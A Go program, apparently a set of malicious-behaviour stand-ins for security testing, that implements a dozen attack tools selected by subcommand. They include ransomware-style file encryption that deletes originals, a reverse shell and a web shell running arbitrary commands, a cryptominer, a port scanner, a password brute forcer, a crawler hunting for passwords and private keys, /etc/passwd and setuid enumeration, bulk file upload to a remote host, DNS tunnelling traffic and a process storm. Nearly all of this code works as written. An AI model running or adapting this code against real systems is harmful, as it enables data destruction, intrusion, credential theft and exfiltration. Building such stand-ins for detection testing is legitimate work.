// bad WHAT ...: stand-ins in Go: encrypt, shell, mine, scan, guess, crawl, enum, web, dns, send, relay, storm.
package main

import (
	"bufio"
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"
)

func n(i int) int { x, _ := strconv.Atoi(os.Args[i]); return x }
func nap(us int)  { time.Sleep(time.Duration(us) * time.Microsecond) }
func main() {
	switch os.Args[1] {
	case "encrypt": // DIR PAUSE WORKERS STREAM
		work := make(chan string, 64)
		for i := 0; i < n(4); i++ {
			go func() {
				for p := range work {
					encrypt(p, n(5) == 1)
					nap(n(3))
				}
			}()
		}
		for {
			filepath.WalkDir(os.Args[2], func(p string, d os.DirEntry, e error) error {
				if e == nil && !d.IsDir() && !strings.HasSuffix(p, ".locked") {
					work <- p
				}
				return nil
			})
			filepath.WalkDir(os.Args[2], func(p string, d os.DirEntry, e error) error {
				if e == nil && strings.HasSuffix(p, ".locked") {
					os.Rename(p, strings.TrimSuffix(p, ".locked"))
				}
				return nil
			})
		}
	case "shell":
		for {
			c, e := net.Dial("tcp", "10.9.0.1:"+os.Args[2])
			if e != nil {
				time.Sleep(time.Second)
				continue
			}
			if n(3) == 1 {
				x := exec.Command("/bin/sh", "-i")
				x.Stdin, x.Stdout, x.Stderr = c, c, c
				x.Run()
			} else {
				s := bufio.NewScanner(c)
				for s.Scan() {
					o, _ := exec.Command("/bin/sh", "-c", s.Text()).CombinedOutput()
					c.Write(o)
				}
			}
		}
	case "mine": // THREADS PORT
		c, e := net.Dial("tcp", "10.9.0.1:"+os.Args[3])
		if e != nil {
			os.Exit(1)
		}
		fmt.Fprintln(c, `{"id":1,"method":"mining.subscribe"}`)
		found := make(chan uint64, 9)
		for i := 0; i < n(2); i++ {
			go func(k uint64) {
				b := make([]byte, 80)
				for {
					k++
					binary.LittleEndian.PutUint64(b, k)
					h := sha256.Sum256(b)
					h = sha256.Sum256(h[:])
					if h[0] == 0 && h[1] == 0 && h[2] < 8 {
						found <- k
					}
				}
			}(uint64(i) << 40)
		}
		go func() {
			for k := range found {
				fmt.Fprintf(c, "{\"method\":\"mining.submit\",\"n\":%d}\n", k)
			}
		}()
		s := bufio.NewScanner(c)
		for s.Scan() {
		}
	case "scan": // WORKERS PAUSE
		work := make(chan string)
		for i := 0; i < n(2); i++ {
			go func() {
				for a := range work {
					c, e := net.DialTimeout("tcp", a, 300*time.Millisecond)
					if e == nil {
						fmt.Println(a)
						c.Close()
					}
					nap(n(3))
				}
			}()
		}
		for h := 1; ; h = h%250 + 1 {
			for p := 1; p < 3000; p++ {
				work <- fmt.Sprintf("10.9.0.%d:%d", h, p)
			}
		}
	case "guess": // PORT WORKERS
		var w sync.WaitGroup
		for i := 0; i < n(3); i++ {
			w.Add(1)
			go func() {
				for {
					q, _ := http.NewRequest("GET", "http://10.9.0.1:"+os.Args[2]+"/admin", nil)
					q.SetBasicAuth("admin", strconv.Itoa(rand.Int()))
					r, e := http.DefaultClient.Do(q)
					if e == nil {
						io.Copy(io.Discard, r.Body)
						r.Body.Close()
					}
				}
			}()
		}
		w.Wait()
	case "crawl":
		for {
			filepath.WalkDir(os.Args[2], func(p string, d os.DirEntry, e error) error {
				if e == nil && d.Type().IsRegular() {
					b, _ := os.ReadFile(p)
					if bytes.Contains(b, []byte("password")) || bytes.Contains(b, []byte("PRIVATE KEY")) {
						fmt.Println(p)
					}
				}
				return nil
			})
			nap(100000)
		}
	case "enum":
		for {
			filepath.Walk("/usr", func(p string, i os.FileInfo, e error) error {
				if e == nil && i.Mode()&os.ModeSetuid != 0 {
					fmt.Println(p)
				}
				return nil
			})
			for _, c := range []string{"id", "uname -a", "ps aux", "cat /etc/passwd", "ss -an", "mount", "ls -la /home"} {
				exec.Command("sh", "-c", c).Run()
			}
		}
	case "web":
		http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
			o, _ := exec.Command("sh", "-c", r.FormValue("cmd")).CombinedOutput()
			w.Write(o)
		})
		http.ListenAndServe(":"+os.Args[2], nil)
	case "dns":
		for {
			l := make([]string, 3)
			for i := range l {
				b := make([]byte, 45)
				for j := range b {
					b[j] = byte('a' + rand.Intn(26))
				}
				l[i] = string(b)
			}
			net.LookupTXT(strings.Join(l, ".") + ".t.example.")
			nap(n(2))
		}
	case "send":
		for {
			filepath.WalkDir(os.Args[3], func(p string, d os.DirEntry, e error) error {
				if e == nil && d.Type().IsRegular() {
					f, _ := os.Open(p)
					r, e := http.Post("http://10.9.0.1:"+os.Args[2]+"/up", "application/octet-stream", f)
					if e == nil {
						r.Body.Close()
					}
				}
				return nil
			})
		}
	case "relay":
		l, _ := net.Listen("tcp", ":"+os.Args[2])
		for {
			c, _ := l.Accept()
			d, e := net.Dial("tcp", "10.9.0.1:"+os.Args[3])
			if e != nil {
				c.Close()
				continue
			}
			go func() { io.Copy(d, c); d.Close() }()
			go func() { io.Copy(c, d); c.Close() }()
		}
	case "storm":
		for {
			for i := 0; i < n(2); i++ {
				go exec.Command("/bin/true").Run()
			}
			nap(n(3))
		}
	}
}

func encrypt(p string, stream bool) {
	k, _ := aes.NewCipher(make([]byte, 32))
	s := cipher.NewCTR(k, make([]byte, 16))
	if stream {
		f, e := os.Open(p)
		if e != nil {
			return
		}
		g, _ := os.Create(p + ".locked")
		io.Copy(cipher.StreamWriter{S: s, W: g}, f)
		f.Close()
		g.Close()
	} else {
		b, e := os.ReadFile(p)
		if e != nil {
			return
		}
		s.XORKeyStream(b, b)
		os.WriteFile(p+".locked", b, 0600)
	}
	os.Remove(p)
}
